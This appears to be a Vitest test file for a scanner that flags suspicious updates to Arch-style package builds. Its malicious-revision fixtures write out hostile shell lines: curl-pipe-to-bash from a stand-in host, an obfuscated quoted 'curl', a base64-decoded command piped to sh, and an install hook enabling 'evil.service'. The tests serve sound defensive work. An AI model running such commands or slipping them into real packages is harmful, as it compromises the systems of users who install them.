import { describe, expect, it } from 'vitest';
import { CHECKS, MAX_FLAGS_PER_CHECK, RISK_CHECKS, analyzeRisk, compareFlags, type RiskFlag } from './index.js';
import { NOW, brief, high, lineOf, meta, riskInput, sha } from './fixtures/helpers.js';
import { PYTHON_PKG, WIDGET_GIT, fancySums, fancytool, slinkyBin } from './fixtures/packages.js';

describe('analyzeRisk on benign revisions', () => {
  const prev = fancytool();

  it('raises nothing for an ordinary version bump (pkgver + checksums + .SRCINFO)', () => {
    expect(analyzeRisk(riskInput(fancytool({ pkgver: '1.5.0' }), prev))).toEqual([]);
    expect(analyzeRisk(riskInput(slinkyBin('1.0.0'), slinkyBin()))).toEqual([]);
  });

  it('raises nothing for a checksum update of a local file with a pkgrel bump', () => {
    const [a, b] = fancySums('1.4.2');
    const cand = fancytool({ pkgrel: '2', sums: [a, b, sha('fix-build.patch v2')] });
    cand['fix-build.patch'] = `${cand['fix-build.patch']}+  /* also fix the overflow in read_config() */\n`;
    expect(analyzeRisk(riskInput(cand, prev))).toEqual([]);
  });

  it('raises nothing for a dependency added with a pkgrel bump', () => {
    expect(analyzeRisk(riskInput(fancytool({ pkgrel: '2', depends: ['glibc', 'openssl', 'zstd'] }), prev))).toEqual([]);
  });

  it('raises only a medium flag for a dependency added without a pkgrel bump', () => {
    const flags = analyzeRisk(riskInput(fancytool({ depends: ['glibc', 'openssl', 'zstd'] }), prev));
    expect(high(flags)).toEqual([]);
    expect(flags.map((f) => f.check)).toEqual(['build-changed-same-version']);
  });

  it('raises at most young-revision and info flags for the first revision of ordinary packages', () => {
    const files = fancytool();
    const flags = analyzeRisk(riskInput(files, null, { candidateCommittedAt: NOW - 3 * 3600 }));
    expect(brief(flags)).toEqual([
      { check: 'young-revision', severity: 'low' },
      { check: 'persistence', severity: 'info', file: 'PKGBUILD', line: lineOf(files.PKGBUILD, 'usr/lib/systemd/system') },
    ]);
    for (const other of [slinkyBin(), WIDGET_GIT, PYTHON_PKG]) expect(analyzeRisk(riskInput(other))).toEqual([]);
  });

  it('raises no high flag for a rebuild of a VCS package or a new maintainer-free metadata update', () => {
    const bumped = { ...WIDGET_GIT };
    bumped.PKGBUILD = bumped.PKGBUILD.replace('r14.g3f9c2ab', 'r20.g0c1d2e3');
    bumped['.SRCINFO'] = bumped['.SRCINFO']!.replace('r14.g3f9c2ab', 'r20.g0c1d2e3');
    const flags = analyzeRisk(riskInput(bumped, WIDGET_GIT, { candidateMeta: meta({ NumVotes: 500, Popularity: 9 }) }));
    expect(flags).toEqual([]);
  });
});

describe('analyzeRisk on other benign shapes', () => {
  it('accepts a bundled armored PGP key and CRLF line endings', () => {
    const body = Array.from({ length: 20 }, (_, i) =>
      Buffer.from(sha(`k${i}`))
        .toString('base64')
        .slice(0, 64),
    ).join('\n');
    const key = `-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n${body}\n=AbCd\n-----END PGP PUBLIC KEY BLOCK-----\n`;
    const files = { ...slinkyBin(), 'keys/pgp/A2C794A986419D8A3D5E8E4C6D0D94E1A5C8B3F2.asc': key };
    expect(analyzeRisk(riskInput(files))).toEqual([]);
    const crlf = fancytool({ pkgver: '1.5.0' });
    crlf.PKGBUILD = crlf.PKGBUILD.replace(/\n/g, '\r\n');
    expect(analyzeRisk(riskInput(crlf, fancytool()))).toEqual([]);
  });

  it('raises only medium flags for a node package installed with npm', () => {
    const pkgbuild = `pkgname=json-fmt
pkgver=4.0.0
pkgrel=1
pkgdesc='Format JSON from the command line'
arch=('any')
url='https://github.com/jsonfmt/json-fmt'
license=('MIT')
depends=('nodejs')
makedepends=('npm')
source=("https://registry.npmjs.org/$pkgname/-/$pkgname-$pkgver.tgz")
noextract=("$pkgname-$pkgver.tgz")
sha256sums=('${sha('json-fmt-4.0.0')}')

package() {
  npm install -g --cache "$srcdir/npm-cache" --prefix "$pkgdir/usr" "$srcdir/$pkgname-$pkgver.tgz"
  find "$pkgdir/usr" -type d -exec chmod 755 {} +
}
`;
    const srcinfo = `pkgbase = json-fmt
\tpkgver = 4.0.0
\tpkgrel = 1
\tsource = https://registry.npmjs.org/json-fmt/-/json-fmt-4.0.0.tgz
\tsha256sums = ${sha('json-fmt-4.0.0')}

pkgname = json-fmt
`;
    const flags = analyzeRisk(riskInput({ PKGBUILD: pkgbuild, '.SRCINFO': srcinfo }));
    expect(brief(flags)).toEqual([{ check: 'package-managers', severity: 'medium', file: 'PKGBUILD', line: lineOf(pkgbuild, 'npm install') }]);
  });
});

describe('analyzeRisk on malicious revisions', () => {
  const prev = fancytool();

  it('reports the classic compromised-package update, sorted by severity, file and line', () => {
    const cand = {
      ...fancytool({
        pkgver: '1.4.3',
        topExtra: ['install=.fancytool.install'],
        buildExtra: ["'c''u''r''l' -s https://x.y/a -o a"],
        packageExtra: ['curl -s https://x.y/z.sh | bash', 'echo aGVsbG8= | base64 -d | sh'],
      }),
      '.fancytool.install': 'post_install() {\n  systemctl enable --now evil.service\n}\n',
      'payload.bin': { binary: 40_000 },
    };
    const flags = analyzeRisk(
      riskInput(cand, prev, {
        previousMeta: meta({ Maintainer: null }),
        candidateMeta: meta({ Maintainer: 'mallory' }),
        candidateCommittedAt: NOW - 600,
      }),
    );
    const pb = cand.PKGBUILD;
    expect(brief(flags)).toEqual([
      { check: 'maintainer-change', severity: 'high' },
      { check: 'persistence', severity: 'high', file: '.fancytool.install', line: 2 },
      { check: 'obfuscation', severity: 'high', file: 'PKGBUILD', line: lineOf(pb, "'c''u''r''l'") },
      { check: 'download-and-run', severity: 'high', file: 'PKGBUILD', line: lineOf(pb, 'curl -s https://x.y/z.sh | bash') },
      { check: 'obfuscation', severity: 'high', file: 'PKGBUILD', line: lineOf(pb, 'base64 -d') },
      { check: 'young-revision', severity: 'medium' },
      { check: 'install-scriptlet', severity: 'medium', file: '.fancytool.install', line: 2 },
      { check: 'binary-or-large-file', severity: 'medium', file: 'payload.bin' },
    ]);
    expect(flags.every((f) => f.reason.endsWith('.'))).toBe(true);
  });
});

describe('analyzeRisk on a flood of lines', () => {
  it('caps the flags of one check and sums up the rest in one flag', () => {
    const cand = fancytool({ packageExtra: Array.from({ length: 120 }, (_, i) => `curl -s https://x.y/${i}.sh | bash`) });
    const flags = analyzeRisk(riskInput(cand, fancytool()));
    const run = flags.filter((f) => f.check === 'download-and-run');
    expect(run).toHaveLength(MAX_FLAGS_PER_CHECK + 1);
    expect(run.filter((f) => f.line === undefined)).toEqual([
      {
        check: 'download-and-run',
        severity: 'high',
        reason: `download-and-run found ${120 - MAX_FLAGS_PER_CHECK} more lines like the ones above; review the whole file.`,
      },
    ]);
  });
});

describe('compareFlags', () => {
  it('orders by severity, then file (package-level first), then line, then check', () => {
    const flags: RiskFlag[] = [
      { check: 'b', severity: 'low', reason: 'x' },
      { check: 'a', severity: 'high', reason: 'x', file: 'b', line: 1 },
      { check: 'a', severity: 'high', reason: 'x', file: 'a', line: 9 },
      { check: 'a', severity: 'high', reason: 'x', file: 'a', line: 2 },
      { check: 'z', severity: 'high', reason: 'x' },
      { check: 'a', severity: 'info', reason: 'x' },
    ];
    expect(flags.sort(compareFlags).map((f) => `${f.severity}:${f.file ?? '-'}:${f.line ?? '-'}:${f.check}`)).toEqual([
      'high:-:-:z',
      'high:a:2:a',
      'high:a:9:a',
      'high:b:1:a',
      'low:-:-:b',
      'info:-:-:a',
    ]);
  });
});

describe('RISK_CHECKS', () => {
  it('documents every check with an id, title, severity and example', () => {
    expect(RISK_CHECKS.map((c) => c.id)).toEqual([
      'maintainer-change',
      'install-scriptlet',
      'sources',
      'foreign-code-run',
      'checksums',
      'package-managers',
      'download-and-run',
      'network-fetch',
      'exfiltration',
      'assembled-command',
      'obfuscation',
      'persistence',
      'binary-or-large-file',
      'build-changed-same-version',
      'srcinfo-mismatch',
      'young-revision',
    ]);
    for (const c of RISK_CHECKS) {
      expect(c.title.length).toBeGreaterThan(10);
      expect(c.example.length).toBeGreaterThan(10);
      expect(c.severity).toMatch(/^(?:high|medium|low|info)(?:\/(?:high|medium|low|info))*$/);
      expect(Object.keys(c).sort()).toEqual(['example', 'id', 'severity', 'title']);
    }
    expect(CHECKS).toHaveLength(RISK_CHECKS.length);
  });
});
